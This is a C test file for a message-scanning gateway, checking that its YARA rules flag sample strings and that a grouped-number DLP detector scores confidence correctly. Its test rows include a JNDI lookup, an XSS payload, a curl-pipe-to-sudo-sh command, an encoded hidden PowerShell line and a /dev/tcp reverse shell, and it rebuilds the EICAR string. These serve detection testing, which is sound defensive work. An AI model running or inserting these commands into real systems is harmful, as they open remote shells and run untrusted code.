// link: content ipc base
// libs: -lyara -lhs -licui18n -licuuc -licudata -lcrypto -lconfig -lm
/* SPDX-License-Identifier: GPL-3.0-or-later
 * The rules that ship: they load, each YARA rule fires on its example and none on ordinary chat. Run from the top of the tree. */
#include "content_help.h"

static const struct { const char *name, *text, *expect; } rows[] = {
    { "ordinary chat", "Are we still on for 14:30? I put the draft into the folder, see section 2.3.", "" },
    { "talk about code", "use <b>bold</b>, onload is an event, curl is a tool, and /dev/null is empty", "" },
    { "a link", "https://www.example.org/a?b=c&d=%20e#f", "" },
    { "look-up", "hello ${jndi:ldap://203.0.113.9/a}", "jndi_lookup@0:6+11" },
    { "hidden look-up", "${${lower:j}ndi:x}", "jndi_lookup@0:0+12" },
    { "script", "look <script src=x>", "active_markup@0:5+8" },
    { "handler", "<img src=x onerror=alert(1)>", "active_markup@0:0+19" },
    { "fetch and run", "just run curl https://x.example/i.sh | sudo sh", "remote_shell@0:9+37" },
    { "powershell", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", "remote_shell@0:0+47" },
    { "reverse shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "remote_shell@0:11+25" },
    { "program as text", "TVqQAAMAAAAEAAAA//8AALgAAAA", "executable_in_text@0:0+16" },
    { "OTR", "?OTRv23?", "otr_or_pgp_message@0:0+8" },
};

/* Turned round, so that this file is not taken for the test string itself. */
static const char *eicar(void)
{
    static const char reversed[] = "*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\\4[PA@%P!O5X";
    static char out[sizeof reversed];
    for (size_t i = 0; i < sizeof reversed - 1; i++)
        out[i] = reversed[sizeof reversed - 2 - i];
    return out;
}

static bool scan(struct content *c, const char *text, struct arena *a, struct scan_result *ret)
{
    struct scan_segment seg = { .group = 1, .attr = UINT32_MAX, .place = SCAN_AT_BODY, .text = str_c(text) };
    struct scan_request r = { .segments = &seg, .n_segments = 1, .facts = { .direction = STR("high-to-low"), .kind = STR("message") } };
    arena_reset(a);
    return content_scan(c, &r, a, ret) == 0;
}

/* Only what YARA said. */
static const char *yara_text(struct scan_result *r)
{
    size_t n = 0;
    for (size_t i = 0; i < r->n_matches; i++)
        if (r->matches[i].source == SCAN_YARA)
            r->matches[n++] = r->matches[i];
    r->n_matches = n;
    return result_text(r);
}

/* A number that is written in other groups than its kind, or stands in a longer row, is less likely by 25. */
static void groups(void)
{
    static const struct { const char *name, *text; int want; } v[] = { /* want: confidence */
        { "in one piece", "so 9434765919 it is", 40 }, { "in its groups", "so 943 476 5919 it is", 40 }, { "in the other form", "so 94347-65919 it is", 40 },
        { "in other groups", "so 94 347 65919 it is", 15 }, { "digit by digit", "so 9 4 3 4 7 6 5 9 1 9 it is", 15 }, { "with two separators", "so 943-476 5919 it is", 15 },
        { "behind another number", "so 77 943 476 5919 it is", 15 }, { "before another number", "so 943 476 5919 77 it is", 15 },
        { "beside another, apart", "so 943 476 5919, 77 it is", 40 }, { "with a wrong check digit", "so 943 476 5918 it is", -1 } };
    char *dir = scratch_rules();
    struct content *c = NULL;
    struct conf_errors errs;
    struct arena a;
    conf_errors_init(&errs);
    arena_init(&a, 1u << 20);
    scratch_put(dir, "dlp/a.conf", "detectors = ( { id = \"n\"; about = \"n\"; validator = \"uk-nhs\"; groups = [ \"3-3-4\", \"5-5\" ]; confidence = 40; report = 1; } );\n");
    if (ok(content_load(dir, &c, &errs) == 0, "a detector with groups loads"))
        for (size_t i = 0; i < sizeof v / sizeof *v; i++) {
            struct scan_result r = { .n_matches = 0 };
            bool done = scan(c, v[i].text, &a, &r);
            int got = done && r.n_matches ? r.matches[0].confidence : -1;
            if (!ok(done && got == v[i].want && r.n_matches <= 1, "groups: %s", v[i].name))
                diag("%d, %zu matches", got, r.n_matches);
        }
    conf_errors_print(&errs, stdout);
    conf_errors_clear(&errs);
    content_free(c);
    c = NULL;
    scratch_put(dir, "dlp/a.conf", "detectors = ( { id = \"n\"; about = \"n\"; validator = \"uk-nhs\"; groups = [ \"3.3\" ]; },\n"
        "{ id = \"m\"; about = \"m\"; patterns = [ \"abcde\" ]; groups = [ \"3-3\" ]; } );\n");
    ok(content_load(dir, &c, &errs) == GW_ERR(CONF) && errs.n == 2 && errs.v[0].line == 1 && strstr(errs.v[0].text, "groups are written") &&
        errs.v[1].line == 2 && strstr(errs.v[1].text, "validator that finds numbers"), "mistakes in groups are named with their lines");
    conf_errors_clear(&errs);
    arena_clear(&a);
    scratch_remove(dir);
}

int main(void)
{
    struct content *c = NULL;
    struct conf_errors errs;
    struct arena a;
    struct scan_result result;
    conf_errors_init(&errs);
    arena_init(&a, 1u << 20);
    bool loaded = content_load("rules", &c, &errs) == 0;
    ok(loaded, "rules/ loads");
    conf_errors_print(&errs, stdout);
    if (!loaded)
        return done_testing();
    ok(errs.n == 0, "without a warning");
    ok(content_rule_count(c) >= 12, "%zu rules", content_rule_count(c));
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++)
        if (!ok(scan(c, rows[i].text, &a, &result) && strcmp(yara_text(&result), rows[i].expect) == 0, "%s", rows[i].name))
            diag("got '%s', expected '%s'", result_text(&result), rows[i].expect);
    ok(scan(c, eicar(), &a, &result) && strcmp(yara_text(&result), "eicar@0:0+68") == 0, "EICAR");
    diag("%s", result_text(&result));
    conf_errors_clear(&errs);
    size_t n = content_self_test(c, &errs);
    ok(errs.n == 0, "the detectors' own %zu examples hold", n);
    conf_errors_print(&errs, stdout);
    conf_errors_clear(&errs);
    content_free(c);
    arena_clear(&a);
    groups();
    return done_testing();
}
